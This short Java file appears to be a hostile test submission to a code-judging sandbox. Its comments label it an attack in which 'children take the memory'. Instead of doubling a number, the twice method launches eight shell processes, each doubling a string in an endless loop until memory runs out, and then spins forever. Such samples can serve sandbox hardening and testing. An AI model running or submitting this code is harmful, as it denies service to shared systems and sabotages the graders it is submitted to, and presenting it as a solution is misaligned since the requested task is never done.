// task: twice
// outcome: out_of_memory or timeout or exited_early
// attack: children take the memory
class Solution {
    public int twice(int x) throws Exception {
        for (int i = 0; i < 8; i++) {
            new ProcessBuilder("sh", "-c", "x=aaaaaaaaaaaaaaaa; while :; do x=$x$x; done").start();
        }
        while (true) {
            Thread.onSpinWait();
        }
    }
}
